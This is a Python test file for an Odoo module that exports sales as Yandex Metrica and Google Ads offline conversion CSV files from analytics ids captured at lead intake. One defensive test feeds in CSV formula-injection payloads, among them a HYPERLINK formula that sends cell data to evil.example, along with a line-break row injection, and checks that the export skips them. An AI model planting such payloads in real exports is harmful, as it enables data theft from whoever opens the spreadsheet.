"""Closing the loop: the intake API keeps the visitor's analytics ids on the request and the lead,
and the period's sales go back to Yandex Metrica and Google Ads as their offline conversion files,
byte for byte."""

import base64
from datetime import datetime

from odoo import Command
from odoo.exceptions import UserError
from odoo.tests import Form, new_test_user, tagged
from odoo.tools import SQL

from ..models.ecom_report_mixin import order_refunds
from ..tools import offline_conversions
from ..tools.intake import validate_request
from .common import IntakeCase, credit_note, invoice_order


@tagged("post_install", "-at_install", "ecom_crm")
class TestOfflineConversions(IntakeCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.manager = new_test_user(cls.env, login="conv_manager", groups="sales_team.group_sale_manager",
                                    tz="Europe/Moscow", lang="en_US")
        cls.env.company.currency_id.active = True

    def _sale(self, payload, amount, when):
        answer = self.post({"phone": payload.pop("phone"), **payload}).json()
        lead = self.env["crm.lead"].browse(answer["lead_id"])
        order = self.env["sale.order"].create({
            "partner_id": lead.partner_id.id, "opportunity_id": lead.id,
            "order_line": [Command.create({"product_id": self.product.id, "price_unit": amount,
                                           "tax_id": [Command.clear()]})]})
        order.action_confirm()
        order.flush_recordset()
        self.env.cr.execute("UPDATE sale_order SET date_order = %s WHERE id = %s", [when, order.id])
        order.invalidate_recordset()
        return lead, order

    def test_validation_keeps_the_analytics_ids(self):
        clean, errors = validate_request({"phone": "+79160000001", "yandex_client_id": " 1700000000123456789 ",
                                          "google_client_id": "GA1.1.123456789.1700000000"})
        self.assertFalse(errors)
        self.assertEqual((clean["yandex_client_id"], clean["google_client_id"]),
                         ("1700000000123456789", "GA1.1.123456789.1700000000"))
        _clean, errors = validate_request({"phone": "+79160000001", "yandex_client_id": "1" * 65})
        self.assertIn("yandex_client_id", errors)

    def test_request_and_lead_carry_the_ids(self):
        answer = self.post({"phone": "+79160001001", "yandex_client_id": "1700000000123456789",
                            "google_client_id": "123456789.1700000000", "gclid": "Cj0KCQ-abc"}).json()
        lead = self.env["crm.lead"].browse(answer["lead_id"])
        self.assertEqual((lead.ecom_yandex_client_id, lead.ecom_google_client_id, lead.ecom_click_id,
                          lead.ecom_click_id_type), ("1700000000123456789", "123456789.1700000000", "Cj0KCQ-abc",
                                                     "gclid"))
        entry = lead.ecom_intake_ids
        self.assertEqual((entry.yandex_client_id, entry.google_client_id, entry.click_id_type),
                         ("1700000000123456789", "123456789.1700000000", "gclid"))

    def _export(self, **values):
        form = Form(self.env["ecom.offline.conversion.export"].with_user(self.manager))
        form.date_from = "2025-11-01"
        form.date_to = "2025-11-30"
        for key, value in values.items():
            setattr(form, key, value)
        wizard = form.save()
        wizard.action_export()
        return wizard, base64.b64decode(wizard.file).decode()

    def test_files_of_the_periods_sales(self):
        currency = self.env.company.currency_id.name
        self._sale({"phone": "+79160001002", "yandex_client_id": "1700000000111", "yclid": "777"}, 24990,
                   datetime(2025, 11, 3, 10, 15, 30))
        self._sale({"phone": "+79160001003", "gclid": "Cj0-first"}, 1500.5, datetime(2025, 11, 30, 20, 59, 59))
        self._sale({"phone": "+79160001004", "yandex_client_id": "1700000000222"}, 100, datetime(2025, 12, 1, 9, 0))
        self._sale({"phone": "+79160001005"}, 100, datetime(2025, 11, 5, 9, 0))  # no id: not a conversion
        wizard, text = self._export(goal="order_paid")
        self.assertEqual(wizard.conversion_count, 1)
        self.assertEqual(text, "ClientId,Target,DateTime,Price,Currency\r\n"
                               f"1700000000111,order_paid,1762164930,24990.00,{currency}\r\n")
        _wizard, text = self._export(yandex_id_type="yclid")
        self.assertEqual(text, "Yclid,Target,DateTime,Price,Currency\r\n"
                               f"777,order_confirmed,1762164930,24990.00,{currency}\r\n")
        # 20:59:59 UTC on the 30th is 23:59:59 in Moscow: still in the period, written in Moscow time
        _wizard, text = self._export(system="google_ads", goal="Покупка")
        self.assertEqual(text, "Parameters:TimeZone=Europe/Moscow\r\n"
                               "Google Click ID,Conversion Name,Conversion Time,Conversion Value,"
                               "Conversion Currency\r\n"
                               f"Cj0-first,Покупка,2025-11-30 23:59:59,1500.50,{currency}\r\n")

    def test_value_is_what_the_customer_kept(self):
        """An ad system learns from the value of its conversions: a partly returned order is sent for
        what the customer kept, one returned whole is no conversion."""
        day = datetime(2025, 11, 3, 10, 0)
        _lead, partly = self._sale({"phone": "+79160001030", "gclid": "Cj0-partly"}, 3000, day)
        _lead, whole = self._sale({"phone": "+79160001031", "gclid": "Cj0-whole"}, 2000, day)
        credit_note(invoice_order(partly), price=1000)
        credit_note(invoice_order(whole))
        wizard, text = self._export(system="google_ads", goal="Покупка")
        self.assertEqual(wizard.conversion_count, 1)
        self.assertEqual(text.splitlines()[2:], [f"Cj0-partly,Покупка,2025-11-03 13:00:00,2000.00,"
                                                 f"{self.env.company.currency_id.name}"])

    def test_an_order_the_reports_take_for_returned_is_no_conversion(self):
        """An order of another currency (3 to the company's) credited in full by a credit note typed in by
        hand (in the company's currency): the reports take it for a returned order, and so does the export,
        though the conversion between the currencies leaves a fraction of a kopeck uncredited."""
        day = datetime(2025, 11, 3, 10, 0)
        _lead, order = self._sale({"phone": "+79160001040", "gclid": "Cj0-credited"}, 1000, day)
        order.flush_recordset()
        self.env.cr.execute("UPDATE sale_order SET currency_rate = 3 WHERE id = %s", [order.id])
        order.invalidate_recordset()
        credit = self.env["account.move"].create({
            "move_type": "out_refund", "partner_id": order.partner_id.id, "invoice_date": "2025-11-05",
            "invoice_line_ids": [Command.create({"product_id": self.product.id, "price_unit": 400,
                                                 "tax_ids": [Command.clear()]})]})
        credit.action_post()
        self.env.flush_all()
        self.env.cr.execute(SQL("SELECT refunded, returned FROM (%s) rf WHERE rf.order_id = %s",
                                order_refunds(orders=SQL("SELECT %s", order.id)), order.id))
        [(refunded, returned)] = self.env.cr.fetchall()
        self.assertTrue(returned, "a returned order in the reports")
        self.assertAlmostEqual(float(refunded), 1000, places=2)
        with self.assertRaisesRegex(UserError, "No confirmed order of this period"):
            self._export(system="google_ads", goal="Покупка")

    def test_ids_a_browser_was_made_to_send_are_left_out(self):
        """Click ids come from the visitors' browsers through the public API: one that a spreadsheet
        would run as a formula, or that breaks a line, is not written, and the wizard says how many."""
        day = datetime(2025, 11, 3, 10, 0)
        self._sale({"phone": "+79160001010", "gclid": "Cj0-good_1"}, 100, day)
        for index, hostile in enumerate(('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1+1)",
                                         "\t=1+1", "Cj0\r\nevil,row")):
            self._sale({"phone": f"+7916000102{index}", "gclid": hostile}, 100, day)
        wizard, text = self._export(system="google_ads", goal="Покупка")
        self.assertEqual((wizard.conversion_count, wizard.skipped_count), (1, 6))
        self.assertEqual(text.splitlines()[2:], [f"Cj0-good_1,Покупка,2025-11-03 13:00:00,100.00,"
                                                 f"{self.env.company.currency_id.name}"])
        with self.assertRaises(UserError):
            self._export(system="google_ads", goal="=1+1")

    def test_nothing_to_export_is_said(self):
        with self.assertRaises(UserError):
            self._export()

    def test_id_forms_in_plain_python(self):
        conversions = [{"id": value} for value in ("1700000000111", "=1+1", "12a", "Cj0-x_Y", "1\n2")]
        self.assertEqual(offline_conversions.valid_ids(conversions, "client_id"), ([conversions[0]], 4))
        self.assertEqual(offline_conversions.valid_ids(conversions, "gclid"), ([conversions[0], conversions[2],
                                                                             conversions[3]], 2))
        self.assertTrue(all(map(offline_conversions.formula_like, ("=A1", "+1+1", "-A1", "@A", "\tx", "a\nb"))))
        self.assertFalse(offline_conversions.formula_like("-1"), "a plain number is a number")
        self.assertFalse(offline_conversions.formula_like("order_paid"))

    def test_formats_in_plain_python(self):
        conversions = [{"id": "abc", "time": datetime(2024, 1, 5, 11, 30), "value": 1000, "currency": "RUB"}]
        self.assertEqual(offline_conversions.google_ads_csv(conversions, "Sale", "UTC"),
                         "Parameters:TimeZone=UTC\r\nGoogle Click ID,Conversion Name,Conversion Time,Conversion Value,"
                         "Conversion Currency\r\nabc,Sale,2024-01-05 11:30:00,1000.00,RUB\r\n")
        self.assertEqual(offline_conversions.yandex_metrica_csv(conversions, "sale", "user_id"),
                         "UserId,Target,DateTime,Price,Currency\r\nabc,sale,1704454200,1000.00,RUB\r\n")
